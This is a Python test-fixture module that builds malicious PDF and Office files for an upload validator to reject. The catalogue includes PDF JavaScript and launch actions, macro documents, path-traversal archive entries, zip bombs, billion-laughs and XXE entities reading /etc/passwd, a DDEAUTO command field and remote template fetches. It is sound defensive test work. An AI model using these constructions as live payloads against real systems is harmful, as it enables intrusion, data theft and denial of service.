"""PDF and office documents that mean harm."""

import struct
from typing import Any

from tests.api.harmless_files import (
    OFFICE,
    content_types,
    document,
    docx,
    excel_parts,
    packed,
    pdf,
    picture,
    relations,
    stream,
    word_parts,
    zipped,
)
from tests.api.hostile_documents_pictures import WITH_PICTURES
from tests.api.hostile_file import Hostile

_JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
_OBJECTS = b"/Type /ObjStm /N 1 /First 4 "
_PDF: dict[str, Any] = {"name": "a.pdf", "media_type": "application/pdf"}
_DOCX: dict[str, Any] = {
    "name": "a.docx",
    "media_type": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
}
_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
_SETTINGS = "word/_rels/document.xml.rels"


def action(words: bytes) -> bytes:
    return pdf(b"<< /Type /Action " + words + b" >>", trailer=b"/OpenAction 4 0 R")


def hidden_as_hex() -> bytes:
    return pdf(stream((b"5 0 " + _JS).hex().encode(), _OBJECTS + b"/Filter /ASCIIHexDecode"))


def behind_comment() -> bytes:
    words = _OBJECTS + b"/X (stream) /Filter /LZWDecode "
    return pdf(stream(b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01", words))


def swollen_pdf() -> bytes:
    return pdf(packed(bytes(600 << 20)))


def office(**more: str | bytes) -> bytes:
    return docx(**more)


def with_macros() -> bytes:
    program = "application/vnd.ms-office.vbaProject"
    more = f'<Override PartName="/word/vbaProject.bin" ContentType="{program}"/>'
    types = content_types(_MACROS, "/word/document.xml", more)
    return zipped({**word_parts(), "[Content_Types].xml": types, "word/vbaProject.bin": b"\0" * 99})


def renamed_macros() -> bytes:
    types = content_types(_MACROS, "/word/document.xml")
    return zipped({**word_parts(), "[Content_Types].xml": types})


def related(type: str, target: str) -> bytes:
    return office(**{_SETTINGS: relations((f"{OFFICE}/{type}", target, True))})


def field(*words: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in words)
    return office(**{"word/document.xml": document(f"<w:p>{runs}</w:p>")})


def laughing() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "' + f"&l{n - 1};" * 10 + '">' for n in range(1, 10))
    xml = f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]><d>&l9;</d>'
    return office(**{"word/document.xml": xml})


def reading_a_file() -> bytes:
    xml = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
    return office(**{"word/styles.xml": xml})


def overlapping() -> bytes:
    """Return a document two of whose parts are one and the same stretch of the file."""
    whole = bytearray(docx())
    first = whole.index(b"PK\x01\x02")
    second = whole.index(b"PK\x01\x02", first + 4)
    third = whole.index(b"PK\x01\x02", second + 4)
    whole[third + 42 : third + 46] = whole[second + 42 : second + 46]
    return bytes(whole)


def claiming_less() -> bytes:
    """Return a document whose table says that a part of 64 MB has 100 bytes."""
    whole = bytearray(office(**{"word/styles.xml": b"<a>" + b" " * (64 << 20) + b"</a>"}))
    name = whole.rindex(b"word/styles.xml")
    whole[name - 46 + 24 : name - 46 + 28] = struct.pack("<I", 100)
    return bytes(whole)


def locked() -> bytes:
    whole = bytearray(docx())
    place = whole.index(b"PK\x01\x02")
    whole[place + 8] |= 1
    return bytes(whole)


def nested() -> bytes:
    return office(**{"word/embeddings/a.docx": docx()})


def twice() -> bytes:
    return zipped({**word_parts(), "Word/Document.xml": document()})


DOCUMENTS = [
    Hostile("pdf that runs a script when opened", lambda: action(_JS[3:-3]), **_PDF,
            refused="a script"),
    Hostile("pdf whose script is spelt by codes",
            lambda: action(b"/S /J#61vaScr#69pt /JS (x)"), **_PDF, refused="a script"),
    Hostile("pdf with a packed script", lambda: pdf(packed(b"5 0 " + _JS, _OBJECTS)), **_PDF,
            refused="a script"),
    Hostile("pdf with objects packed in another way", hidden_as_hex, **_PDF, refused="hides"),
    Hostile("pdf whose dictionary lies", behind_comment, **_PDF, refused="hides"),
    Hostile("pdf that starts a program", lambda: action(b"/S /Launch /F (cmd.exe)"), **_PDF,
            refused="program"),
    Hostile("pdf with a file within",
            lambda: pdf(b"<< /Type /Filespec /EF << /F 5 0 R >> >>", stream(b"MZ")), **_PDF,
            refused="another file"),
    Hostile("pdf with a form of scripts", lambda: pdf(b"<< /XFA 5 0 R >>", stream(b"<xdp/>")),
            **_PDF, refused="XFA"),
    Hostile("pdf that sends a form", lambda: action(b"/S /SubmitForm /F (http://x)"), **_PDF,
            refused="sends"),
    Hostile("pdf that opens a share", lambda: action(b"/S /GoToR /F (\\\\\\\\x\\\\y)"), **_PDF,
            refused="another file"),
    Hostile("locked pdf", lambda: pdf(trailer=b"/Encrypt 9 0 R"), **_PDF, refused="locked"),
    Hostile("pdf with a program behind", lambda: pdf() + b"MZ" + bytes(99), **_PDF,
            refused="behind its end"),
    Hostile("pdf that is an archive too", lambda: pdf() + docx() + b"\n%%EOF\n", **_PDF,
            refused="behind its end"),
    Hostile("pdf behind a page", lambda: b"<html>" + pdf(), **_PDF, refused="not taken"),
    Hostile("pdf behind a picture's name", lambda: b"GIF89a" + pdf(), **_PDF, refused="not taken"),
    Hostile("cut off pdf", lambda: pdf(packed(bytes(9999)))[:150], **_PDF, refused="broken"),
    Hostile("pdf that unpacks to 600 MB", swollen_pdf, **_PDF, refused="unpacks to more"),
    Hostile("docm", with_macros, "a.docm", refused="programs"),
    Hostile("docm that is called docx", renamed_macros, **_DOCX, refused="macros"),
    Hostile("document whose part leads out", lambda: office(**{"../../etc/cron.d/x": b"x"}),
            **_DOCX, refused="elsewhere"),
    Hostile("document whose part leads to the root", lambda: office(**{"/etc/passwd": b"x"}),
            **_DOCX, refused="elsewhere"),
    Hostile("document with a backslash", lambda: office(**{"word\\..\\x.xml": b"<a/>"}), **_DOCX,
            refused="elsewhere"),
    Hostile("zip bomb", lambda: office(**{"word/media/a.png": bytes(300 << 20)}), **_DOCX,
            refused="far too much"),
    Hostile("zip bomb that says it is small", claiming_less, **_DOCX, refused="broken"),
    Hostile("zip of 4,000 parts",
            lambda: office(**{f"word/media/{n}.png": b"" for n in range(4000)}), **_DOCX,
            refused="unpacks to more"),
    Hostile("zip whose parts lie over each other", overlapping, **_DOCX, refused="follow"),
    Hostile("document with a program before it", lambda: b"MZ" + bytes(99) + docx(), **_DOCX,
            refused="not taken"),
    Hostile("document with a program behind it", lambda: docx() + b"MZ" + bytes(99), **_DOCX,
            refused="behind its end"),
    Hostile("locked document", locked, **_DOCX, refused="locked"),
    Hostile("document with a template from elsewhere",
            lambda: related("attachedTemplate", "http://x/evil.dotm"), **_DOCX, refused="fetches"),
    Hostile("document with a picture from a share", lambda: related("image", "file://x/y.png"),
            **_DOCX, refused="fetches"),
    Hostile("document whose link is a script", lambda: related("hyperlink", "javascript:x"),
            **_DOCX, refused="fetches"),
    Hostile("document that starts a program by a field", lambda: field("DD", "EAUTO c:\\cmd x"),
            **_DOCX, refused="field"),
    Hostile("a thousand million laughs", laughing, **_DOCX, refused="entities"),
    Hostile("document that reads a file of the server", reading_a_file, **_DOCX,
            refused="entities"),
    Hostile("document with an object within", nested, **_DOCX, refused="other files"),
    *WITH_PICTURES,
    Hostile("document with two parts of one name", twice, **_DOCX, refused="one name"),
    Hostile("document with a program beside",
            lambda: office(**{"word/run.exe": b"MZ"}), **_DOCX, refused="does not belong"),
    Hostile("sheet that fetches another",
            lambda: zipped({**excel_parts(), "xl/externalLinks/a.xml": "<a/>"}), "a.xlsx",
            refused="other files"),
    Hostile("plain archive as docx", lambda: zipped({"a.txt": b"a"}), **_DOCX, refused="no DOCX"),
    Hostile("java archive", lambda: zipped({"META-INF/MANIFEST.MF": b"a", "A.class": b"\xca\xfe"}),
            "a.jar", refused="no DOCX"),
    Hostile("docx that is a picture too", lambda: picture()[:20] + docx(), **_DOCX,
            refused="broken"),
]  # fmt: skip
